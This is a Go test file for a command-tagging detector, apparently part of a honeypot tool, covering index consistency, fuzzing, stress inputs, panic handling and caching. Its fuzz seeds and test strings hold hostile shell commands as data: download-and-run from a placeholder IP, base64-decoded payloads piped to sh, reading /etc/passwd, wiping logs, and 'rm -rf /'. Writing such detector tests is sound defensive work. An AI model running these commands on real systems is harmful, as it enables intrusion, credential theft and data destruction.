package tagger

import (
	"bufio"
	"os"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/bench/workload"
	"github.com/ttpcron/ttpcron/tagger/shell"
)

var loadEmbedded = sync.OnceValue(func() *RuleSet {
	rs, _ := Load(Options{Sources: []Source{{Name: "embedded", FS: Embedded()}}, Release: "enterprise-v18.1"})
	return rs
})

func commandEvent(text string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.Command, ID: "e", AttackerIP: "203.0.113.1", Payload: ttpcron.TextPayload("command_text", text)}
}

// every tries every rule on a text, without index, cache and parser memory.
func every(text string) (ids []string, bounded bool) {
	var ev evaluation
	ev.begin(text, commandEvent(text))
	ev.script = shell.Parse(text, shell.Limits{})
	for _, r := range unindexed() {
		ev.budget.Steps = stepsPerEvent
		if _, ok := r.try(r.check, &ev); ok {
			ids = append(ids, r.ID)
		}
	}
	return ids, ev.budget.Met
}

// unindexed are the rules of commands, without programs and gates to go by.
var unindexed = sync.OnceValue(func() (out []*runnable) {
	for _, d := range loadEmbedded().defs {
		if slices.Contains(d.Kinds, ttpcron.Command) {
			out = append(out, newRunnable(d, ttpcron.Command, nil))
		}
	}
	return out
})

func rulesOf(tags []ttpcron.Tag) (ids []string) {
	for _, t := range tags {
		if n := len(ids); n == 0 || ids[n-1] != t.RuleID {
			ids = append(ids, t.RuleID)
		}
	}
	return ids
}

// checkSame holds that a text gets the same tags with the index and without,
// from the cache and without, from a fresh tagger and one that was used.
func checkSame(t *testing.T, rs *RuleSet, used *Composite, text string) {
	t.Helper()
	first, v1 := used.Tag(commandEvent(text), nil)
	again, v2 := used.Tag(commandEvent(text), nil)
	fresh, v3 := rs.Tagger(nil).Tag(commandEvent(text), nil)
	if !reflect.DeepEqual(first, again) || !reflect.DeepEqual(first, fresh) || v1 != v2 || v1 != v3 {
		t.Fatalf("%q: %v %v, again %v %v, fresh %v %v", text, rulesOf(first), v1, rulesOf(again), v2, rulesOf(fresh), v3)
	}
	if v1.Bounded || v1.Skipped {
		return
	}
	if want, met := every(text); !met && !reflect.DeepEqual(rulesOf(first), want) {
		t.Fatalf("%q: with the index %v, without %v", text, rulesOf(first), want)
	}
}

// TestSameWithoutIndex runs checkSame over a made history, and over the lines
// of the file that TTPCRON_COMMANDS names.
func TestSameWithoutIndex(t *testing.T) {
	rs := loadEmbedded()
	used := rs.Tagger(nil)
	n := 300
	if testing.Short() {
		n = 50
	}
	for e := range workload.Events(workload.Options{Commands: n, Unique: true, Seed: 7}) {
		text, _ := e.Payload.Text("command_text")
		checkSame(t, rs, used, text)
	}
	name := os.Getenv("TTPCRON_COMMANDS")
	if name == "" {
		return
	}
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	in := bufio.NewScanner(f)
	in.Buffer(nil, 8<<20)
	seen := map[string]bool{}
	for in.Scan() {
		if text := in.Text(); text != "" && !seen[text] {
			seen[text] = true
			checkSame(t, rs, used, text)
		}
	}
}

func FuzzSameWithoutIndex(f *testing.F) {
	for _, s := range []string{
		"wget http://203.0.113.9/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a", `w'g'et http://x/a|s\h`, "echo d2hvYW1p|base64 -d|sh",
		`/bin/busybox WGET`, "cat /etc/passwd\x00", "\u212aill -9 1", `bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`, "crontab -l;uname -a&&nproc",
		"echo \"root:x\"|chpasswd|bash", "$(which wget) x", "rm -rf /var/log/* ~/.bash_history", "nohup ./x >/dev/null 2>&1 &",
	} {
		f.Add(s)
	}
	rs := loadEmbedded()
	used := rs.Tagger(nil)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) < 2000 {
			checkSame(t, rs, used, text)
		}
	})
}

// hostile are texts made to cost as much as they can.
func hostile(size int) map[string]string {
	rep := func(s string) string { return strings.Repeat(s, size/len(s)) }
	return map[string]string{
		"letters":       rep("a"),
		"blanks":        rep(" "),
		"commands":      rep("wget x;"),
		"many programs": rep("wget x|sh;curl y>/tmp/z;rm -rf /;"),
		"substitutions": rep("$("),
		"quotes":        rep(`"'`),
		"backquotes":    rep("`"),
		"flags":         "wget " + rep("-a -b "),
		"one argument":  "curl " + rep("x"),
		"slashes":       rep("/"),
		"base64":        "echo " + rep("d2dldCBodHRwOi8v") + "|base64 -d|sh",
		"escapes":       `echo -e "` + rep(`\x77`) + `"|sh`,
		"not UTF-8":     rep("\xff\xe2"),
		"nul":           rep("\x00"),
		"words":         rep("wget curl chmod /etc/passwd crontab authorized_keys base64 "),
		"braces":        rep("{a,b}"),
		"here":          "cat <<E\n" + rep("x y z\n"),
		"semicolons":    rep(";"),
		"assignments":   rep("A=$A$A;"),
	}
}

// TestHostile holds that nothing crashes and everything ends; BenchmarkHostile
// says how soon.
func TestHostile(t *testing.T) {
	c := loadEmbedded().Tagger(func(_ ttpcron.Event, rule string, err error) { t.Errorf("%s: %v", rule, err) })
	for _, text := range hostile(1 << 18) {
		c.Tag(commandEvent(text), nil)
	}
}

// panicking is a check that fails on every event.
type panicking struct{}

func (panicking) holds(*evaluation) bool { panic("out of order") }

// TestPanic holds that a rule that fails loses its own tags only, and that the
// verdict is not remembered as if it had finished.
func TestPanic(t *testing.T) {
	rs, _ := Load(Options{Sources: []Source{{Name: "embedded", FS: Embedded()}}})
	const text = "wget http://203.0.113.9/a.sh; sh a.sh"
	want := rulesOf(tagsOf(rs.Tagger(nil), text))
	if len(want) < 2 {
		t.Fatalf("only %v match", want)
	}
	k := rs.ready().kinds[ttpcron.Command]
	for _, r := range k.rules {
		if r.ID == want[0] {
			r.check.is = panicking{}
		}
	}
	warned := 0
	c := rs.Tagger(func(e ttpcron.Event, rule string, err error) {
		warned++
		if e.ID != "e" || rule != want[0] || err.Error() != "rule failed on this event: out of order" {
			t.Errorf("%v %q %v", e, rule, err)
		}
	})
	for range 2 {
		if got := rulesOf(tagsOf(c, text)); !reflect.DeepEqual(got, want[1:]) {
			t.Errorf("got %v, want %v", got, want[1:])
		}
	}
	if warned != 2 {
		t.Errorf("warned %d times of 2", warned)
	}
}

func tagsOf(c *Composite, text string) []ttpcron.Tag {
	tags, _ := c.Tag(commandEvent(text), nil)
	return tags
}

// TestCache holds that the cache stays within its bounds and forgets nothing
// that is used.
func TestCache(t *testing.T) {
	var c cache
	hot, v := "hot", &verdict{}
	c.put(hot, v)
	for i := range 5 * cacheEntries {
		c.put(strings.Repeat("x", i%50)+"-"+itoa(i), &verdict{})
		if i%1000 == 0 && c.get(hot) != v {
			t.Fatalf("forgotten after %d", i)
		}
		if len(c.young) > cacheEntries || len(c.old) > cacheEntries {
			t.Fatalf("%d and %d entries", len(c.young), len(c.old))
		}
	}
	c.put("failed", &verdict{failed: true})
	c.put(strings.Repeat("y", cacheText+1), &verdict{})
	if c.get("failed") != nil || c.get(strings.Repeat("y", cacheText+1)) != nil {
		t.Error("kept what must not be kept")
	}
	big := strings.Repeat("z", cacheText-10)
	for i := range 300 {
		c.put(big+itoa(i), &verdict{})
	}
	if c.bytes > cacheBytes+3*cacheText {
		t.Errorf("%d bytes", c.bytes)
	}
}

// TestTagAllocations holds that a known text that matches nothing costs no
// memory.
func TestTagAllocations(t *testing.T) {
	c := loadEmbedded().Tagger(nil)
	e := commandEvent("zzgrmblfx")
	var dst []ttpcron.Tag
	if dst, _ = c.Tag(e, dst); len(dst) > 0 {
		t.Fatalf("matches %v", rulesOf(dst))
	}
	if n := testing.AllocsPerRun(100, func() { dst, _ = c.Tag(e, dst[:0]) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}
